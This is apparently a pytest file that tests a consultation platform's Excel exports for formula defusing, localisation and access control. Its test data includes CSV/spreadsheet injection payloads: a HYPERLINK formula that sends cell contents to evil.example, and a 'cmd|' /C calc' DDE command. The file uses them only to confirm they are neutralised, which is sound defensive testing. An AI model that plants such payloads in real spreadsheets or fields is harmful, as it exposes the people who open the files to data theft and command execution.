"""Registrations, results and the outcome's recommendations as Excel workbooks, beside their
CSV files: read back with openpyxl, in the reader's language, with formulas defused as in
the CSV, and for the same people."""

import io
from datetime import datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from consultations.models import QuestionKind, RegistrationAnswer, RegistrationQuestion
from recommendations import voting
from recommendations.models import Vote
from recommendations.outcome import operations
from tests.conftest import find_user, sign_in
from tests.test_outcome_pages import made, signed_in  # noqa: F401  (fixture)
from tests.test_recommendation_pages import plenary  # noqa: F401  (fixture)
from tests.test_registration import (  # noqa: F401  (fixtures)
    FORMULA_STARTS,
    facilitator_client,
    open_consultation,
)

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
EVIL_LINK = 'HYPERLINK("http://evil.example/?x="&A1,"x")'


def read_workbook(response) -> list[dict]:
    """The rows of the workbook's sheet, by heading; checks what every export shares."""
    assert response.status_code == 200, response.status_code
    assert response.mimetype == XLSX
    assert response.headers["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1])
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    headings = [cell.value for cell in sheet[1]]
    return [dict(zip(headings, [cell.value for cell in row], strict=True))
            for row in sheet.iter_rows(min_row=2)]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_the_registrations_workbook_defuses_formulas_and_speaks_the_readers_language(
        app, session, open_consultation, make_user, register, facilitator_client, start):
    consultation = open_consultation()
    question = RegistrationQuestion(consultation_id=consultation.id, prompt=f"{start}1+2",
                                    kind=QuestionKind.short_text)
    session.add(question)
    registration = register(make_user(email="p1@example.org"), consultation)
    # Set past the forms, which strip leading spaces: the export trusts no stored text.
    registration.user.name = f"{start}{EVIL_LINK}"
    registration.organisation = f"{start}cmd|' /C calc'!A0"
    session.add(RegistrationAnswer(registration=registration, question=question,
                                   value=f"{start}2+5"))
    register(make_user(email="p2@example.org", name="Aïssatou Ndiaye — الهلال الأحمر"),
             consultation)
    facilitator = facilitator_client(consultation)
    find_user("facilitator@example.org").preferred_locale = "fr"
    session.flush()

    rows = read_workbook(facilitator.get(f"/c/{consultation.slug}/registrations.xlsx"))

    by_email = {row["Adresse électronique"]: row for row in rows}
    defused = by_email["p1@example.org"]
    assert defused["Nom"] == f"'{start}{EVIL_LINK}".replace("\r", "_x000D_")
    assert defused["Organisation"] == f"'{start}cmd|' /C calc'!A0".replace("\r", "_x000D_")
    assert defused[f"'{start}1+2".replace("\r", "_x000D_")] == \
        f"'{start}2+5".replace("\r", "_x000D_")
    assert defused["État"] == "Approuvée"
    assert defused["Groupe de parties prenantes"] == (
        "Mouvement international de la Croix-Rouge et du Croissant-Rouge")
    registered = defused["Inscription (fuseau Africa/Dakar)"]
    assert isinstance(registered, datetime)
    assert by_email["p2@example.org"]["Nom"] == "Aïssatou Ndiaye — الهلال الأحمر"


def test_the_registrations_workbook_keeps_the_lists_filter_and_its_permissions(
        app, session, open_consultation, make_user, register, facilitator_client):
    consultation = open_consultation()
    register(make_user(email="p1@example.org"), consultation)
    register(make_user(email="p2@example.org", stakeholder_group="academia"), consultation)
    facilitator = facilitator_client(consultation)

    rows = read_workbook(facilitator.get(
        f"/c/{consultation.slug}/registrations.xlsx?group=academia"))

    assert [row["E-mail address"] for row in rows] == ["p2@example.org"]
    participant = app.test_client()
    sign_in(participant, "p1@example.org")
    assert participant.get(f"/c/{consultation.slug}/registrations.xlsx").status_code == 403
    assert app.test_client().get(
        f"/c/{consultation.slug}/registrations.xlsx").status_code == 302


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_the_results_workbook_has_real_numbers_dates_and_defused_titles(
        app, client, plenary, session, start):  # noqa: F811
    consultation, recommendation = plenary()
    recommendation.title = f"{start}{EVIL_LINK}"
    recommendation.versions[-1].text = "Plain text."
    session.flush()
    round_ = voting.open_round(recommendation, find_user("facilitator@example.org"))
    voting.cast_vote(round_, find_user("p0@example.org"), "support")
    voting.cast_vote(round_, find_user("p1@example.org"), "oppose")
    voting.close_round(round_, find_user("facilitator@example.org"), confirmed=True)
    sign_in(client, "p1@example.org")

    [row] = read_workbook(client.get(f"/c/{consultation.slug}/results.xlsx"))

    assert row["Title"] == f"'{start}{EVIL_LINK}".replace("\r", "_x000D_")
    assert (row["Round"], row["Support"], row["Oppose"], row["Abstain"]) == (1, 1, 1, 0)
    assert row["Adopted"] is False
    assert row["Adoption rule"] == "Consensus: adopted when nobody opposes"
    assert isinstance(row["Closed (Africa/Dakar time)"], datetime)
    assert row["Reopened (Africa/Dakar time)"] is None
    # The same people as the CSV: whoever is admitted; an outsider is refused.
    outsider = app.test_client()
    sign_in(outsider, "outsider@example.org")
    assert outsider.get(f"/c/{consultation.slug}/results.xlsx").status_code == 403


def test_the_outcomes_recommendations_workbook_is_for_those_who_read_the_version(
        app, made, session):  # noqa: F811
    safe_landing = made.recommendations["R2"]
    safe_landing.title = f"={EVIL_LINK}"
    vote = session.scalars(select(Vote).where(Vote.reservation.is_not(None))).one()
    vote.reservation = "@cmd|' /C calc'!A0"
    document = operations.compile_outcome(made.consultation, "en", made.users["secretariat"])
    session.flush()
    slug = made.consultation.slug
    path = f"/c/{slug}/outcome/versions/{document.id}/recommendations.xlsx"
    made.users["secretariat"].preferred_locale = "ar"
    session.flush()
    secretariat = signed_in(app, made, "secretariat")

    response = secretariat.get(path)
    rows = {row["المرجع"]: row for row in read_workbook(response)}

    assert f"{slug}-outcome-en-v1-recommendations.xlsx" in response.headers[
        "Content-Disposition"]
    assert load_workbook(io.BytesIO(response.data)).active.sheet_view.rightToLeft
    assert rows["R2"]["العنوان"] == f"'={EVIL_LINK}"
    assert rows["R2"]["التحفظات"].startswith("'@cmd|' /C calc'!A0")
    assert rows["R1"]["العنوان"] == "A regional network of focal points"
    for who in ("p1", "rapporteur", "outsider"):
        assert signed_in(app, made, who).get(path).status_code == 403, who
